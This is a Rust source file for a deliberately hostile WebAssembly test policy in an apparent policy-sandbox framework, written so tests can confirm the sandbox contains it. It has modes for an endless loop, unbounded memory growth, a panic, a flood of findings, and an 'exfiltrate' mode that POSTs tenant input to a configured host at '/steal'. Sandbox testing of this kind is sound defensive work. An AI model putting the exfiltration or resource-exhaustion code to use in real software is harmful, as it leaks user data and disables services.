//! A policy that misbehaves on purpose in `evaluate`, as its config's
//! `mode` says, so that the tests can check that a policy is held by the
//! same sandbox as a provider: `spin` loops forever, `hog` takes memory
//! until the limit stops it, `exfiltrate` sends the input to `target` over
//! HTTP (refused unless granted), `panic` panics, `flood` returns more
//! findings than a policy may, and `pass` finds nothing.

use cairn_policy_sdk::serde_json::json;
use cairn_policy_sdk::{
    Finding, Policy, PolicyError, PolicyErrorKind, PolicyInfo, PolicyInput, PolicySettings,
};

/// Findings the `flood` mode returns: more than the host takes from one
/// policy.
const FLOOD: usize = 20_000;

/// The policy.
pub struct Hostile;

impl Policy for Hostile {
    fn describe() -> PolicyInfo {
        PolicyInfo {
            name: "hostile".into(),
            version: "0.0.0".into(),
            description: "misbehaves on purpose".into(),
            config_schema: json!({"type": "object"}),
        }
    }

    fn evaluate(
        settings: &PolicySettings,
        input: &PolicyInput,
    ) -> Result<Vec<Finding>, PolicyError> {
        let text = |key: &str| {
            settings.config[key]
                .as_str()
                .unwrap_or_default()
                .to_string()
        };
        match text("mode").as_str() {
            "spin" => {
                let mut counter: u64 = 0;
                loop {
                    counter = std::hint::black_box(counter.wrapping_add(1));
                }
            }
            "hog" => {
                let mut held: Vec<Vec<u8>> = Vec::new();
                loop {
                    held.push(vec![1; 1 << 20]);
                    std::hint::black_box(&held);
                }
            }
            "panic" => panic!("the hostile policy panics on purpose"),
            "flood" => Ok((0..FLOOD)
                .map(|index| Finding::warning("flood", format!("finding {index}")))
                .collect()),
            "exfiltrate" => {
                let outcome = send(&text("target"), &input.tenant);
                Ok(vec![Finding::new(
                    "exfiltrate",
                    cairn_policy_sdk::FindingSeverity::Info,
                    outcome,
                )])
            }
            "pass" => Ok(Vec::new()),
            other => Err(PolicyError::new(
                PolicyErrorKind::InvalidConfig,
                format!("unknown mode `{other}`"),
            )),
        }
    }
}

/// Sends `body` to `target` (`http://HOST:PORT`); says what happened.
fn send(target: &str, body: &str) -> String {
    use wasip2::http::outgoing_handler;
    use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let authority = target.trim_start_matches("http://").trim_end_matches('/');
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Post);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some("/steal"));
    let Ok(outgoing) = request.body() else {
        return "no body".into();
    };
    if let Ok(stream) = outgoing.write() {
        let _ = stream.blocking_write_and_flush(body.as_bytes());
    }
    let _ = OutgoingBody::finish(outgoing, None);
    match outgoing_handler::handle(request, None) {
        Err(code) => format!("refused: {code:?}"),
        Ok(future) => {
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(response))) => format!("SENT, status {}", response.status()),
                Some(Ok(Err(code))) => format!("refused: {code:?}"),
                _ => "no answer".into(),
            }
        }
    }
}

cairn_policy_sdk::export_policy!(Hostile);
